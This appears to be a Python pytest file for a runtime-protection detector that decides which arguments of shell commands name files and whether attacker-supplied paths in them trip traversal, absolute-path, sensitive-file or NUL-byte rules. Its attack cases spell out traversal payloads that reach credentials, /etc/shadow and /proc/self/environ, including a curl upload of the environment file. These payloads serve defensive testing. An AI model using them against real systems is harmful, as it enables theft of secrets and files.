"""Which arguments of a child process name files, and how the file-access rules judge the ones an
input chose (detectors/command_paths.py)."""
from __future__ import annotations

import pytest

from app_protect_lambda.detectors import file_access as fa
from app_protect_lambda.detectors.command_injection import Command
from app_protect_lambda.detectors.command_paths import file_arguments
from app_protect_lambda.detectors.file_access import FileAccess
from app_protect_lambda.findings import AttackKind
from app_protect_lambda.policy import Policy
from app_protect_lambda.sources.inputs import Input, Inputs

DEFAULTS = Policy.from_dict({}).options(AttackKind.FILE_ACCESS)

FILE_ARGUMENTS = [
    # (argv or shell script, cwd, [(path, written)])
    (["cat", "a", "b"], None, [("a", False), ("b", False)]),
    (["/bin/cat", "-A", "--", "-x"], None, [("-x", False)]),
    (["head", "-n", "5", "f"], None, [("f", False)]),
    (["head", "-n5", "f"], None, [("f", False)]),
    (["tail", "--lines=5", "f"], None, [("f", False)]),
    (["cp", "-r", "a", "b", "dest"], None, [("a", False), ("b", False), ("dest", True)]),
    (["mv", "-t", "dir", "a"], None, [("dir", True), ("a", False)]),
    (["rm", "-rf", "x"], None, [("x", True)]),
    (["tar", "-xzf", "x.tgz", "-C", "out"], None, [("x.tgz", True), ("out", True)]),
    (["tar", "--file=x.tar", "--direc=out", "-x"], None, [("x.tar", True), ("out", True)]),
    (["tar", "cf", "x.tar", "a"], None, [("x.tar", True)]),  # the old style: keys without a dash
    (["tar", "xzf", "x.tgz", "-C", "out"], None, [("x.tgz", True), ("out", True)]),
    (["curl", "-sSo", "out", "https://h/x"], None, [("out", True)]),
    (["curl", "--output", "out", "-T", "up", "-K", "cfg", "https://h/"], None,
     [("out", True), ("up", False), ("cfg", False)]),
    (["curl", "--upload-fi=up", "https://h/"], None, [("up", False)]),
    (["curl", "-H", "X: y", "https://h/../x"], None, []),
    (["wget", "-O", "o", "-P", "dir", "https://h/"], None, [("o", True), ("dir", True)]),
    (["wget", "--output-document=o", "https://h/"], None, [("o", True)]),
    (["zip", "-r", "a.zip", "d1", "d2"], None, [("a.zip", True), ("d1", False), ("d2", False)]),
    (["unzip", "-o", "a.zip", "-d", "dest"], None, [("dest", True), ("a.zip", False)]),
    (["base64", "-w", "0", "f"], None, [("f", False)]),
    (["xxd", "in", "out"], None, [("in", False), ("out", True)]),
    (["sha256sum", "f"], None, [("f", False)]),
    (["grep", "-i", "term", "f1", "f2"], None, [("f1", False), ("f2", False)]),
    (["grep", "-e", "term", "f1"], None, [("f1", False)]),
    (["grep", "-f", "pats", "f1"], None, [("pats", False), ("f1", False)]),
    (["sed", "-i", "s/a/b/", "f"], None, [("f", True)]),
    (["sed", "s/a/b/", "f"], None, [("f", False)]),
    (["dd", "if=a", "of=b", "bs=1M"], None, [("a", False), ("b", True)]),
    (["timeout", "5", "cat", "f"], None, [("f", False)]),
    (["env", "A=b", "nice", "-n", "5", "cat", "f"], None, [("f", False)]),
    (["cat", "f"], "/tmp/work", [("/tmp/work/f", False)]),
    (["cat", "/abs"], "/tmp/work", [("/abs", False)]),
    (["echo", "f"], None, []),
    (["git", "log", "f"], None, []),
    ("cat 'a b' | grep -e x c && tar -xf d", None, [("a b", False), ("c", False), ("d", True)]),
    ("wc -l < in > 'out file' 2>>log 2>&1", None, [("in", False), ("out file", True), ("log", True)]),
    ("cat <<EOF\nx\nEOF", None, []),
    ("cat <<< text", None, []),
]


@pytest.mark.parametrize(("argv", "cwd", "expected"), FILE_ARGUMENTS, ids=str)
def test_file_arguments(argv, cwd, expected) -> None:
    command = Command([argv], shell=True, cwd=cwd) if isinstance(argv, str) else Command(argv, cwd=cwd)
    assert file_arguments(command) == expected


def judge(command: Command, value: str):
    """As the process sink does: each file argument holding the input, judged by the file rules."""
    inputs = Inputs([Input("query.name", value)])
    for path, written in file_arguments(command):
        if value in path:
            finding = fa.detect(FileAccess(path, written), inputs, DEFAULTS)
            if finding is not None:
                return finding.rule
    return None


ATTACKS = [
    # (argv, input, rule)
    (["cat", "/proc/self/environ"], "/proc/self/environ", "file.absolute"),
    (["cat", "/proc/self/{}"], "environ", "file.sensitive"),
    (["cat", "/tmp/uploads/{}"], "../../var/task/app.py", "file.traversal"),
    (["head", "-c", "100", "/tmp/uploads/{}"], "../../proc/self/environ", "file.traversal"),
    (["curl", "-o", "/tmp/dl/{}", "https://example.com/x"], "../../var/task/app.py", "file.traversal"),
    (["curl", "--output=/tmp/dl/{}", "https://example.com/x"], "../../var/task/app.py", "file.traversal"),
    (["curl", "-T", "{}", "https://example.com/up"], "/proc/self/environ", "file.absolute"),
    (["curl", "-K", "{}", "https://example.com/"], "/tmp/evil.cfg", "file.absolute"),
    (["tar", "-czf", "/tmp/out/{}", "/tmp/data"], "../x", "file.traversal"),
    (["tar", "-xf", "/tmp/in.tar", "-C", "/tmp/out/{}"], "../../var/task", "file.traversal"),
    (["tar", "xf", "/tmp/in/{}"], "../../proc/self/environ", "file.traversal"),
    (["wget", "-O", "{}", "https://example.com/"], "/var/task/app.py", "file.absolute"),
    (["wget", "-P", "/tmp/dl/{}", "https://example.com/"], "../../opt/python", "file.traversal"),
    (["cp", "/tmp/uploads/{}", "/tmp/out"], "../../root/.aws/credentials", "file.traversal"),
    (["zip", "/tmp/o.zip", "/tmp/{}"], "../var/task/app.py", "file.traversal"),
    (["base64", "/tmp/{}"], "../proc/self/environ", "file.traversal"),
    (["xxd", "/tmp/{}"], "../etc/shadow", "file.traversal"),
    (["sha256sum", "{}"], "/etc/passwd", "file.absolute"),
    (["grep", "-r", "needle", "/tmp/{}"], "../var/task", "file.traversal"),
    (["sed", "-i", "s/a/b/", "/tmp/{}"], "../var/task/app.py", "file.traversal"),
    (["dd", "if=/tmp/{}", "of=/tmp/out"], "../proc/self/environ", "file.traversal"),
    (["dd", "if=/tmp/in", "of={}"], "/var/task/app.py", "file.absolute"),
    (["timeout", "5", "cat", "/tmp/{}"], "../etc/passwd", "file.traversal"),
    (["cat", "/tmp/x/{}"], "a\x00b", "file.nul-byte"),
    ("cat /tmp/uploads/'{}'", "../../etc/passwd", "file.traversal"),
    ("tar -xf /tmp/in.tar -C {}", "/var/task", "file.absolute"),
    ("echo hi > /tmp/out/{}", "../../var/task/app.py", "file.traversal"),
    ("wc -l < /proc/self/{}", "environ", "file.sensitive"),
]

BENIGN = [
    (["cat", "/tmp/uploads/{}"], "report.txt"),
    (["cat", "/tmp/uploads/{}"], "sub/report.txt"),
    (["cat", "/tmp/uploads/{}"], "a..b.txt"),
    (["cat", "/var/task/locales/{}.json"], "ar"),  # a short piece of the code's own path
    (["cat", "/var/task/docs/{}/index.md"], "task"),
    (["curl", "-o", "/tmp/dl/out", "https://example.com/{}"], "../x"),  # the URL is no file
    (["curl", "-H", "X-Name: {}", "https://example.com/"], "/etc/passwd"),
    (["grep", "{}", "/var/task/data.txt"], "/etc/passwd"),  # the pattern is no file
    (["grep", "-e", "{}", "/var/task/data.txt"], "../x"),
    (["sed", "s/{}/x/", "/tmp/f"], "../etc"),
    (["head", "-n", "{}", "/tmp/f"], "10"),
    (["tar", "-xf", "/tmp/uploads/{}", "-C", "/tmp/out"], "bundle.tar"),
    (["echo", "/tmp/{}"], "../etc/passwd"),  # echo reads no file
    (["sha256sum", "/tmp/uploads/{}"], "sub/../a.txt"),  # climbs but stays inside
]


@pytest.mark.parametrize(("argv", "value", "rule"), ATTACKS, ids=str)
def test_attack_paths_are_judged(argv, value, rule) -> None:
    command = Command([argv.format(value)], shell=True) if isinstance(argv, str) else \
        Command([arg.replace("{}", value) for arg in argv])
    assert judge(command, value) == rule


@pytest.mark.parametrize(("argv", "value"), BENIGN, ids=str)
def test_benign_paths_pass(argv, value) -> None:
    command = Command([argv.format(value)], shell=True) if isinstance(argv, str) else \
        Command([arg.replace("{}", value) for arg in argv])
    assert judge(command, value) is None


def test_huge_vector_is_read_whole_in_linear_time() -> None:
    import time
    argv = ["cat", *(["-A"] * 200_000), "/tmp/x"]
    started = time.perf_counter()
    assert file_arguments(Command(argv)) == [("/tmp/x", False)]  # the last argument is read too
    assert time.perf_counter() - started < 1.0
